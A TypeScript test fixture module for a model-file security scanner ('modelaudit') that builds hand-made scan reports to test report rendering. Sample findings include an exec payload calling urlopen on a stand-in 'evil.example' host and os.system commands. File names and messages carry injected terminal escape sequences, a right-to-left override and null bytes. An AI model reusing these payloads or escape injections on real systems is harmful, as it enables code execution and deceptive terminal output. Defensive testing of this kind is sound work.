/**
 * Reports made by hand, for the tests of how reports look.
 *
 * @module
 */

import {
  type FileReport,
  type Finding,
  type ScanError,
  type ScanReport,
  SEVERITY_SCORES,
  type Verdict,
} from "../../src/core/types.ts";
import { NamedRules } from "../../src/core/reasons.ts";

/** What the rules of these reports say. */
const RULES: ScanReport["rules"] = {
  "file-unsupported": {
    title: "Unsupported model format",
    why: "",
    fix: "",
    references: [],
    atlas: [],
  },
  "pickle-decoder": {
    title: "Data decoding at load",
    why: "Decoders hide what comes next from a reader.",
    fix: "Ask the author why the model needs it.",
    references: [],
    atlas: ["AML.T0074"],
  },
  "pickle-eval": {
    title: "Evaluation of Python source",
    why: "exec runs any Python code that it is given.",
    fix: "Do not load this file. Delete it, and get the model from a source you trust, " +
      "as safetensors where there is one.",
    references: ["CWE-94"],
    atlas: ["AML.T0011.000", "AML.T0018.002"],
  },
  "pickle-process": {
    title: "Process start or signal",
    why: "os, posix, nt and subprocess start programs. A model has no need of them; " +
      "whoever loads this file runs what its author chose.",
    fix: "Do not load this file. Delete it, and get the model from a source you trust, " +
      "as safetensors where there is one.",
    references: ["CWE-502", "GHSA-49gj-c84q-6qm9", "CVE-2025-1716"],
    atlas: ["AML.T0011.000", "AML.T0050"],
  },
  "safe-torch": { title: "Harmless", why: "", fix: "", references: [], atlas: [] },
};

const PROCESS: Finding = {
  ruleId: "pickle-process",
  severity: "critical",
  safety: "dangerous",
  message: "Loading this file calls os.system('echo hi'), which runs a shell command.",
  location: { path: "models/evil.pkl", parts: ["stream_0"] },
  offset: 29,
  count: 1,
  details: {
    global: "os.system",
    calls: [{ expression: "os.system('echo hi')", via: "REDUCE", offset: 29, count: 1 }],
    evidence: [{ kind: "command", text: "echo hi", cut: false }],
  },
};

const CODE: Finding = {
  ...PROCESS,
  ruleId: "pickle-eval",
  message: "Loading this file calls builtins.exec, which runs Python code.",
  location: { path: "models/evil.pkl", parts: ["stream_1"] },
  offset: 1204,
  count: 3,
  details: {
    global: "builtins.exec",
    calls: [{
      expression: "builtins.exec('import urllib.request\\nurllib.request.urlopen(…)')",
      via: "REDUCE",
      offset: 29,
      count: 1,
    }],
    evidence: [{
      kind: "code",
      text: "import urllib.request\n\turllib.request.urlopen('https://evil.example/\x1b[2J')\n",
      cut: true,
    }],
  },
};

const DECODER: Finding = {
  ...PROCESS,
  ruleId: "pickle-decoder",
  severity: "medium",
  safety: "suspicious",
  message: "Loading this file imports base64.b64decode, which can unwrap hidden content.",
  location: { path: "models/odd.pkl", parts: ["stream_0"] },
  offset: 2,
  details: { global: "base64.b64decode", imported_by: ["STACK_GLOBAL"] },
};

const HARMLESS: Finding = {
  ...PROCESS,
  ruleId: "safe-torch",
  severity: "info",
  safety: "innocuous",
  message: "Imports torch._utils._rebuild_tensor_v2.",
  location: { path: "models/good.pt", parts: ["archive/data.pkl", "stream_0"] },
  offset: 77,
  count: 12,
  details: { global: "torch._utils._rebuild_tensor_v2", imported_by: ["STACK_GLOBAL"] },
};

/** An entry of an archive that nobody can read without its password. */
export const ENCRYPTED: ScanError = {
  location: { path: "models/locked.zip", parts: ["weights/data.pkl"] },
  message: 'Cannot read member "weights/data.pkl": it is encrypted.',
  remedy: "Unpack it with its password and scan what comes out.",
};

/** A path that leads nowhere. */
export const MISSING: ScanError = {
  location: { path: "nosuch.pkl", parts: [] },
  message: "No such file or folder.",
  remedy: "Check the path.",
};

/** A file with findings moved into it. */
export function file(
  path: string,
  verdict: Verdict,
  findings: readonly Finding[] = [],
): FileReport {
  return {
    path,
    formats: verdict === "skipped" ? [] : path.endsWith(".pkl") ? ["pickle"] : ["zip"],
    size: 1_234_567,
    bytesRead: 65_536,
    verdict,
    riskScore: Math.max(0, ...findings.map((it) => SEVERITY_SCORES[it.severity])),
    findings: findings.map((it) => ({ ...it, location: { ...it.location, path } })),
    errors: verdict === "incomplete"
      ? [{ ...ENCRYPTED, location: { ...ENCRYPTED.location, path } }]
      : [],
    partsScanned: 1,
  };
}

/** A run over files. */
export function report(
  files: readonly FileReport[],
  errors: readonly ScanError[] = [],
): ScanReport {
  return {
    tool: { name: "modelaudit", version: "0.1.0", rules: "0123456789abcdef0123456789abcdef" },
    startTime: "2026-01-02T03:04:05.678Z",
    duration: 0.345,
    files,
    errors,
    rules: namedIn(files),
    configuration: "embedded",
    suppressed: 0,
  };
}

/** The rules that these files name. */
function namedIn(files: readonly FileReport[]): ScanReport["rules"] {
  const named = new NamedRules((id) => RULES[id]);
  for (const file of files) named.add(file);
  return named.all();
}

const numbered = (from: number, to: number): string[] =>
  Array.from({ length: to - from }, (_, index) => String(from + index).padStart(3, "0"));

/** Name by name, a report of each kind. */
export const SAMPLES: Readonly<Record<string, ScanReport>> = {
  one_clean: report([file("models/good.pt", "clean", [HARMLESS])]),
  one_harmful: report([file("models/evil.pkl", "dangerous", [HARMLESS, DECODER, CODE, PROCESS])]),
  mixed_folder: report([
    ...numbered(0, 20).map((it) => file(`models/layer-${it}.pt`, "clean", [HARMLESS])),
    file("models/evil.pkl", "dangerous", [PROCESS]),
    file("models/sub/worse.pkl", "dangerous", [CODE, PROCESS, DECODER]),
    file("models/odd.pkl", "suspicious", [DECODER]),
    file("models/odd-2.pkl", "suspicious", [DECODER]),
    file("models/locked.zip", "incomplete"),
    ...numbered(0, 5).map((it) => file(`models/notes-${it}.md`, "skipped")),
  ]),
  all_clean: report(numbered(0, 200).map((it) => file(`hub/shard-${it}.bin`, "clean", [HARMLESS]))),
  incomplete: report([file("models/locked.zip", "incomplete")]),
  accepted_incomplete: {
    ...report([{
      ...file("vendor/locked.zip", "incomplete", [{
        ...HARMLESS,
        ruleId: "file-unsupported",
        severity: "low",
        safety: "suspicious",
        message: "Unsupported model format",
        details: { unread: true },
      }]),
      policy: {
        failOn: "medium",
        incomplete: {
          by: "policy",
          until: "2027-01-31",
          why: "encrypted \x1b[31m<until> *signed*",
        },
      },
    }]),
    configuration: "security.toml",
    configurationNotes: ['security.toml:7: the policy of "gone/**" matched nothing.'],
  },
  errors_only: report([], [
    MISSING,
    {
      location: { path: "secret.pkl", parts: [] },
      message: "Permission denied.",
      remedy: "Run as a user who may read it, or change its permissions.",
    },
  ]),
  nothing_found: report([file("README.md", "skipped"), file("notes.txt", "skipped")]),
  hostile_names: report([
    file("a\x1b[31mred\u202egpj.pkl", "dangerous", [{
      ...PROCESS,
      message:
        "Loading this file calls os.system('\x1b]0;owned\x07\r\nclean'), which runs a shell command.",
      location: { path: "", parts: ["名前/データ\u0000.pkl", "stream_0"] },
      details: {
        calls: [{
          expression: "os.system('\x1b]0;owned\x07\r\nclean')",
          via: "REDUCE",
          offset: 29,
          count: 1,
        }],
      },
    }]),
  ]),
};
